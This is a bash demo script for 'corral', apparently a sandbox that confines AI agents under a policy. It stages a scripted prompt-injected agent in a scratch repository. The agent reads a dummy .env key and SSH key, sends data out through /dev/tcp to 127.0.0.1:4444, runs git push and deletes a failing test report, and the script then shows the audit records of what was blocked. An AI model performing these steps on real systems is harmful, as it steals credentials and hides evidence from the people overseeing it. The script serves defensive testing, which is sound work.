#!/usr/bin/env bash
# The main job on a fresh machine: installs what is missing, builds, and
# plays a prompt-injected agent in a scratch git repository under corral's
# shipped policy. The agent's normal work (build, test, commit) goes
# through; its attacks (read .env and an SSH key, phone home, git push,
# delete the failing test report) are stopped or recorded. Then the audit
# record of each decision is shown. Run as root: sudo scripts/demo.sh
set -euo pipefail
cd "$(dirname "$0")/.."

BUILD=${BUILD:-build}
scripts/setup.sh
cmake -S . -B "$BUILD" -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null
cmake --build "$BUILD" -j "$(nproc)" --target corral >/dev/null
corral="$(cd "$BUILD" && pwd)/agent/corral"

# Not under /tmp: a session has a private /tmp and would not see the script.
work=$(mktemp -d /var/tmp/corral-demo-XXXXXX)
trap 'rm -rf "$work"' EXIT
repo="$work/project"
audit="$work/audit.jsonl"

# The agent runs as the sudo caller, or as nobody when there is none.
agent_user=${SUDO_USER:-nobody}

# A small project with a test suite, committed by its owner (creating a
# repository writes .git/hooks, which sessions may not).
mkdir -p "$repo" "$work/keys"
cat >"$repo/add.c" <<'EOF'
int add(int a, int b) { return a + b; }
EOF
cat >"$repo/test.c" <<'EOF'
#include <stdio.h>
int add(int, int);
int main(void) {
  int ok = add(2, 2) == 4;
  FILE *f = fopen("test-results/junit.xml", "w");
  fprintf(f, "<testsuite tests='1' failures='%d'/>\n", !ok);
  fclose(f);
  return !ok;
}
EOF
printf 'test: add.c test.c\n\tmkdir -p test-results\n\tcc -o run-tests add.c test.c\n\t./run-tests\n' >"$repo/Makefile"
echo "OPENAI_API_KEY=sk-demo-not-a-real-key" >"$repo/.env"
echo "-----BEGIN OPENSSH PRIVATE KEY----- demo" >"$work/keys/id_ed25519"
git -C "$repo" init -q
git -C "$repo" -c user.name=dev -c user.email=dev@example.invalid add Makefile add.c test.c
git -C "$repo" -c user.name=dev -c user.email=dev@example.invalid commit -qm "initial"
git -C "$repo" remote add origin https://example.invalid/project.git
chown -R "$agent_user" "$repo"   # git wants the repository to be the agent's
chmod a+rx "$work" "$work/keys"
chmod 644 "$repo/.env" "$work/keys/id_ed25519"

# The shipped policy, plus the demo's stand-in for ~/.ssh (the agent's real
# home is not touched).
cat >"$work/policy.yaml" <<EOF
version: 1
extends: default
secrets:
  - id: demo-ssh-key
    paths: ["$work/keys/id_*"]
EOF

# What the injected instructions make the agent do.
cat >"$work/agent.sh" <<EOF
cd "$repo"
step() { printf '\n>>> agent: %s\n' "\$*"; }
step "build and run the tests";       make -s test && echo "tests pass"
step "commit the work";               git -c user.name=agent -c user.email=agent@example.invalid commit -qam "work" --allow-empty && echo committed
step "read .env";                     cat .env || echo "(denied)"
step "read the SSH key";              cat "$work/keys/id_ed25519" || echo "(denied)"
step "send them to 127.0.0.1:4444";   (exec 3<>/dev/tcp/127.0.0.1/4444 && echo sent >&3) || echo "(denied)"
step "git push";                      git push -q origin HEAD 2>/dev/null; echo "git push exit status \$?"
step "delete the test report";        rm -f test-results/junit.xml && echo "deleted (recorded)"
EOF

echo "== corral run --policy (shipped default + demo key) -- the agent, as $agent_user =="
(cd "$repo" && "$corral" run --quiet --audit "$audit" --policy "$work/policy.yaml" \
  --user "$agent_user" -- bash "$work/agent.sh") || true

echo
echo "== the audit trail: $(wc -l <"$audit") records; the decisions and the deletion =="
grep -E '"decision"|"unlink":\{"path":"[^"]*junit.xml"' "$audit" || true
echo
echo "== and the normal work, allowed =="
grep -E '"exec":\{"path":"/usr/bin/(make|cc|git)"' "$audit" | grep -v decision | head -5 || true
